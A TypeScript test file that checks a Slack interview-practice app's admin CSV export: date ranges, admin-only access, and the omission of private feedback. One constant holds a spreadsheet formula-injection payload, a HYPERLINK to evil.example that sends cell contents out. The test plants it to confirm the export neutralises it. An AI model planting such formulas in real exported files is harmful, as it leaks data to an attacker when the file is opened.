import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import type { RecordedCall } from '../harness/fake-slack.ts';
import { TEST_TEAM_ID } from '../harness/test-world.ts';
import { useTestApp } from '../harness/use-test-app.ts';

/**
 * The organizer export end to end: Ada, a workspace admin, runs `/mock admin export` for November
 * and gets a CSV in her DM with the app, one row per November session, the sessions of October and
 * December left out, no feedback text, and the formula Ana planted in her request's level written
 * as text. Ben, a member, is refused; a range Mockingbird cannot read is answered at once; a range
 * with no sessions uploads nothing and says so.
 */
const ctx = useTestApp();

/** What only the feedback forms and notes hold: none of it may reach the file. */
const SECRETS = ['SECRET-STRENGTHS', 'SECRET-IMPROVEMENT', 'SECRET-ORGANIZER-NOTE', 'SECRET-PARTNER-NOTE'];
const PLANTED_LEVEL = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const UPLOAD_WAIT_MS = 20_000;

interface SeededMember {
  id: string;
  slackUserId: string;
}

let workspaceId: string;
let ana: SeededMember;
let bo: SeededMember;
const ids: Record<string, string> = {};

/**
 * A session as the lifecycle leaves it, written straight to the database: Ana interviews first,
 * each side has its own matched request (Ana's with `anaLevel`), and feedback from `feedbackBy`.
 */
async function seedSession(options: {
  name: string;
  startsAt: string;
  status: 'PROPOSED' | 'CONFIRMED' | 'COMPLETED' | 'CANCELLED' | 'RELEASED';
  type?: string;
  anaLevel?: string;
  cancelledBy?: SeededMember;
  lateCancel?: boolean;
  noShow?: SeededMember;
  feedbackBy?: SeededMember[];
}): Promise<void> {
  const startsAt = new Date(options.startsAt);
  const requests = await Promise.all(
    [ana, bo].map((member) =>
      ctx.world.db.partnerRequest.create({
        data: {
          workspaceId,
          memberId: member.id,
          status: 'MATCHED',
          interviewTypes: [options.type ?? 'execution'],
          level: member === ana ? (options.anaLevel ?? 'SENIOR') : 'STAFF',
          role: 'BOTH',
          durationMinutes: 45,
          availability: { now: { now: true } },
          timezone: 'Europe/London',
          note: 'SECRET-PARTNER-NOTE',
          expiresAt: startsAt,
          closedAt: startsAt,
        },
      }),
    ),
  );
  const confirmedAt = new Date(startsAt.getTime() - 86_400_000);
  const session = await ctx.world.db.session.create({
    data: {
      workspaceId,
      interviewType: options.type ?? 'execution',
      status: options.status,
      startsAt,
      durationMinutes: 45,
      proposedSlots: [startsAt],
      confirmedAt,
      endedAt: options.status === 'CONFIRMED' ? null : startsAt,
      cancelledById: options.cancelledBy?.id ?? null,
      reason: 'both prepare for Execution',
      participants: {
        create: [ana, bo].map((member, index) => ({
          memberId: member.id,
          requestId: requests[index]!.id,
          interviewsFirst: member === ana,
          confirmedAt,
          noShow: options.noShow === member,
          lateCancel: options.cancelledBy === member && options.lateCancel === true,
        })),
      },
    },
  });
  for (const author of options.feedbackBy ?? []) {
    await ctx.world.db.feedback.create({
      data: {
        sessionId: session.id,
        authorId: author.id,
        recipientId: (author === ana ? bo : ana).id,
        ratings: { structure: 3 },
        selfRatings: { structure: 2 },
        hireSignal: 'YES',
        strengths: 'SECRET-STRENGTHS',
        improvement: 'SECRET-IMPROVEMENT',
        organizerNote: 'SECRET-ORGANIZER-NOTE',
        submittedAt: startsAt,
      },
    });
  }
  ids[options.name] = session.id;
}

beforeAll(async () => {
  ctx.world.fake.setUser('U0ADA', { tz: 'Europe/London', is_admin: true });
  ctx.world.fake.setUser('U0BEN', { tz: 'Europe/London' });
  const workspace = await ctx.world.db.workspace.create({ data: { slackTeamId: TEST_TEAM_ID } });
  workspaceId = workspace.id;
  const member = (slackUserId: string) =>
    ctx.world.db.member.create({ data: { workspaceId, slackUserId, timezone: 'Europe/London' } });
  ana = await member('U0ANA');
  bo = await member('U0BO');
  await seedSession({ name: 'october', startsAt: '2026-10-31T23:30:00Z', status: 'COMPLETED' });
  await seedSession({
    name: 'completed',
    startsAt: '2026-11-03T18:00:00Z',
    status: 'COMPLETED',
    anaLevel: PLANTED_LEVEL,
    feedbackBy: [ana, bo],
  });
  await seedSession({
    name: 'noShow',
    startsAt: '2026-11-20T09:30:00Z',
    status: 'COMPLETED',
    type: 'behavioural',
    noShow: bo,
    feedbackBy: [ana],
  });
  await seedSession({
    name: 'lateCancel',
    startsAt: '2026-11-30T23:59:00Z',
    status: 'CANCELLED',
    cancelledBy: bo,
    lateCancel: true,
  });
  // Starts the instant after the range ends.
  await seedSession({ name: 'december', startsAt: '2026-12-01T00:00:00Z', status: 'CONFIRMED' });
});

function exportJobsQueued(): Promise<number> {
  return ctx.world.db.outboxEntry.count({ where: { jobName: 'organizer-export' } });
}

function completedUpload(channelOf: (call: RecordedCall) => boolean): Promise<RecordedCall> {
  return ctx.world.fake.waitForCall('files.completeUploadExternal', channelOf, UPLOAD_WAIT_MS);
}

describe('/mock admin export', () => {
  it('Ada gets November as a CSV in her DM: the rows of the range, no feedback text, formulas as text', async () => {
    const reply = await ctx.app.slack.command('U0ADA', '/mock', 'admin export 2026-11-01 2026-11-30');
    expect(reply.status).toBe(200);
    const queued = await ctx.world.fake.waitForResponse((response) =>
      String(response.body.text).includes('is on its way'),
    );
    expect(queued.body).toMatchObject({ response_type: 'ephemeral' });
    expect(String(queued.body.text)).toContain('from 2026-11-01 to 2026-11-30 (UTC)');

    const isAdasDm = (call: RecordedCall) => {
      const channel = ctx.world.fake.channel(String(call.args.channel_id));
      return channel.is_im === true && channel.user === 'U0ADA';
    };
    await completedUpload(isAdasDm);
    const upload = ctx.world.fake.uploads.find((each) => each.completed && each.filename.endsWith('.csv'));
    expect(upload).toMatchObject({
      filename: 'mockingbird-sessions-2026-11-01-to-2026-11-30.csv',
      title: 'Mockingbird sessions 2026-11-01 to 2026-11-30',
    });
    expect(upload?.initialComment).toContain(
      '3 sessions from 2026-11-01 to 2026-11-30 (UTC): 1 completed, 1 no-show, 1 cancelled',
    );
    expect(upload?.initialComment).toContain('3 feedback forms written');

    const csv = upload?.bytes?.toString('utf8') ?? '';
    for (const secret of SECRETS) expect(csv).not.toContain(secret);
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.session_id)).toEqual([ids.completed, ids.noShow, ids.lateCancel]);
    expect(rows[0]).toEqual({
      session_id: ids.completed,
      starts_at_utc: '2026-11-03T18:00:00.000Z',
      duration_minutes: '45',
      interview_type: 'execution',
      status: 'completed',
      outcome: 'completed',
      rounds: '2',
      first_interviewer_slack_id: 'U0ANA',
      // A spreadsheet shows this as text; it never runs it.
      first_interviewer_level: `'${PLANTED_LEVEL}`,
      first_interviewer_attendance: 'attended',
      first_interviewer_feedback_submitted: 'yes',
      first_interviewee_slack_id: 'U0BO',
      first_interviewee_level: 'STAFF',
      first_interviewee_attendance: 'attended',
      first_interviewee_feedback_submitted: 'yes',
      feedback_forms_submitted: '2',
    });
    expect(rows[1]).toMatchObject({
      interview_type: 'behavioural',
      outcome: 'no-show',
      first_interviewer_attendance: 'attended',
      first_interviewee_attendance: 'no-show',
      first_interviewer_feedback_submitted: 'yes',
      first_interviewee_feedback_submitted: 'no',
      feedback_forms_submitted: '1',
    });
    expect(rows[2]).toMatchObject({
      status: 'cancelled',
      outcome: 'cancelled-late',
      first_interviewer_attendance: 'partner-cancelled',
      first_interviewee_attendance: 'cancelled-late',
      feedback_forms_submitted: '0',
    });
  });

  it('Ben, a member, is refused: an answer saying who can, and nothing queued or uploaded', async () => {
    const queuedBefore = await exportJobsQueued();
    const uploadsBefore = ctx.world.fake.uploads.length;
    const reply = await ctx.app.slack.command('U0BEN', '/mock', 'admin export last 30 days');
    expect(reply.status).toBe(200);
    const refusal = await ctx.world.fake.waitForResponse((response) =>
      String(response.body.text).includes('Only organizers can export'),
    );
    expect(refusal.body).toMatchObject({ response_type: 'ephemeral' });
    expect(await exportJobsQueued()).toBe(queuedBefore);
    expect(ctx.world.fake.uploads).toHaveLength(uploadsBefore);
  });

  it.each([
    ['2026-11-31', '2026-11-31 is not a day on the calendar'],
    ['11/01/2026 11/30/2026', 'could not read “11/01/2026” as a day: write days as YYYY-MM-DD'],
    ['2026-11-30 2026-11-01', 'ends (2026-11-01) before it starts (2026-11-30)'],
    ['last fortnight', 'did not understand “fortnight”'],
  ])(
    'a range it cannot read (%j) is answered at once, privately, saying what is wrong',
    async (range, message) => {
      const queuedBefore = await exportJobsQueued();
      const reply = await ctx.app.slack.command('U0ADA', '/mock', `admin export ${range}`);
      expect(reply.status).toBe(200);
      expect(reply.json).toMatchObject({ response_type: 'ephemeral' });
      expect(String(reply.json?.text)).toContain(message);
      expect(await exportJobsQueued()).toBe(queuedBefore);
    },
  );

  it('a range with no sessions uploads nothing and says so in the DM', async () => {
    const uploadsBefore = ctx.world.fake.uploads.length;
    await ctx.app.slack.command('U0ADA', '/mock', 'admin export 2020-01-01 2020-01-31');
    const said = await ctx.world.fake.waitForCall(
      'chat.postMessage',
      (call) => String(call.args.text).includes('No sessions started from 2020-01-01 to 2020-01-31'),
      UPLOAD_WAIT_MS,
    );
    expect(said.args.channel).toBe('U0ADA');
    expect(ctx.world.fake.uploads).toHaveLength(uploadsBefore);
  });
});
